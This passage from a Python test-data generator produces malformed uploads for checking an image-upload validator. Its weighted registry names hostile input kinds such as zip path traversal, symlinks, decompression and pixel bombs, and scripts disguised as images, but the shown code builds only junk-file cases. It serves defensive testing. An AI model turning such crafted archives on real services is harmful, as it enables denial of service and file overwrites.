        ["__MACOSX/._a.png", "x/.DS_Store", "Thumbs.db", "desktop.ini", "folder/"], rng.randint(0, 3)
    ):
        plan.add(member(junk, b"" if junk.endswith("/") else rng.randbytes(40)), None)
    return plan.build(whole=rejected(archives.EMPTY_ARCHIVE))


def zip_with_junk(rng: random.Random, stem: str) -> Upload:
    """System junk (resource forks, .DS_Store) and folders beside good images: ignored silently, images kept."""
    plan = ZipPlan(rng, stem, "zip_with_junk")
    plan.add_good(rng.randint(1, 2))
    for junk in [f"__MACOSX/._{stem}.png", "sub/.DS_Store", "Thumbs.db", f"{stem}-folder/"]:
        data = b"" if junk.endswith("/") else rng.randbytes(rng.randint(1, 4000))
        plan.add(member(junk, data), Expect(IGNORED))
    return plan.build()


# --- the generator ----------------------------------------------------------------------------------------------

Builder = Callable[[random.Random, str], Upload]

# kind -> (builder, weight). Weights keep the slow-to-make kinds (big files, 20,000-member zips) rarer.
KINDS: dict[str, tuple[Builder, float]] = {
    "truncated_png": (truncated_png, 2),
    "truncated_jpeg": (truncated_jpeg, 2),
    "truncated_bmp_tiff": (truncated_other, 1),
    "png_bad_crc": (png_bad_crc, 1.5),
    "png_corrupt_idat": (png_corrupt_idat, 1),
    "png_pixel_bomb": (png_pixel_bomb, 1.5),
    "jpeg_pixel_bomb": (jpeg_pixel_bomb, 1),
    "png_zero_side": (png_zero_side, 0.5),
    "zero_bytes": (zero_bytes, 1),
    "text_as_image": (text_as_image, 1),
    "html_as_image": (html_as_image, 1),
    "svg_as_image": (svg_as_image, 1),
    "script_as_image": (script_as_image, 1),
    "binary_as_image": (binary_as_image, 1),
    "random_garbage": (random_garbage, 1.5),
    "large_garbage": (large_garbage, 0.1),
    "garbage_with_magic": (garbage_with_magic, 1),
    "unsupported_format": (unsupported_format, 1),
    "multi_frame_tiff": (multi_frame_tiff, 0.5),
    "float_tiff": (float_tiff, 0.5),
    "zip_named_as_image": (zip_named_as_image, 0.5),
    "image_named_as_zip": (image_named_as_zip, 0.5),
    "misnamed_image": (misnamed_image, 1),
    "zip_traversal": (zip_traversal, 1),
    "zip_absolute": (zip_absolute, 1),
    "zip_symlink": (zip_symlink, 1),
    "zip_nested": (zip_nested, 1),
    "zip_disguised_archive": (zip_disguised_archive, 0.5),
    "zip_member_bomb": (zip_member_bomb, 0.5),
    "zip_ratio_bomb": (zip_ratio_bomb, 0.5),
    "zip_overlap_bomb": (zip_overlap_bomb, 0.3),
    "zip_declared_total": (zip_declared_total, 0.5),
    "zip_declared_member": (zip_declared_member, 0.5),
    "zip_too_many_members": (zip_too_many_members, 0.1),
    "zip_lying_small": (zip_lying_small, 0.5),
    "zip_bad_crc": (zip_bad_crc, 0.5),
    "zip_corrupt_deflate": (zip_corrupt_deflate, 1),
    "zip_corrupt_lzma_bzip2": (zip_corrupt_other_method, 1),
    "zip_unsupported_method": (zip_unsupported_method, 0.5),
    "zip_bad_member_offset": (zip_bad_member_offset, 0.5),
    "zip_bad_directory_offset": (zip_bad_directory_offset, 0.5),
    "zip_version_too_high": (zip_version_too_high, 0.5),
    "zip_encrypted": (zip_encrypted, 0.5),
    "zip_truncated": (zip_truncated, 1),
    "zip_garbage": (zip_garbage, 1),
    "zip_bad_images": (zip_bad_images, 1.5),
    "zip_empty": (zip_empty, 0.3),
    "zip_with_junk": (zip_with_junk, 0.5),
}

BAD_MEMBER_SOURCES += [
    truncated_png, truncated_jpeg, png_bad_crc, png_corrupt_idat, png_pixel_bomb, jpeg_pixel_bomb, text_as_image,
    html_as_image, svg_as_image, script_as_image, random_garbage, garbage_with_magic, unsupported_format,
    multi_frame_tiff, misnamed_image,
]  # fmt: skip


def malformed_uploads(count: int = 1000, *, seed: int = 0) -> list[Upload]:
    """`count` different malformed uploads; every kind once (in a seeded order) before any repeats."""
    rng = random.Random(seed)
    kinds = list(KINDS)
    rng.shuffle(kinds)
    weights = [KINDS[k][1] for k in KINDS]
    chosen = kinds[:count] + rng.choices(list(KINDS), weights=weights, k=max(0, count - len(kinds)))
    return [KINDS[kind][0](random.Random(f"{seed}:{i}:{kind}"), f"m{i:04d}") for i, kind in enumerate(chosen)]


def good_uploads(count: int, *, seed: int = 0) -> list[Upload]:
    return [good_plain(random.Random(f"{seed}:good:{i}"), f"g{i:04d}") for i in range(count)]
